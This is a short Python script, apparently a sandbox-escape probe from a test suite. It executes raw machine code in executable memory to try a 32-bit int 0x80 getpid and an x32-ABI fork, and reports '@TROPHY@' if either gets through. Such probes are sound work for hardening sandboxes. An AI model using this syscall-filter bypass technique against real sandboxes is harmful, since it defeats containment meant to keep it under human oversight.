import ctypes
import mmap

GETPID_32 = b"\xb8\x14\0\0\0\xcd\x80\xc3"  # mov eax, 20; int 0x80; ret
FORK_X32 = b"\xb8\x39\0\0\x40\x0f\x05\xc3"  # mov eax, 0x40000039; syscall; ret


def run(code):
    area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()


def attack():
    return "@TROPHY@" if run(FORK_X32) > 0 or run(GETPID_32) > 0 else "tried"


raise RuntimeError(attack())
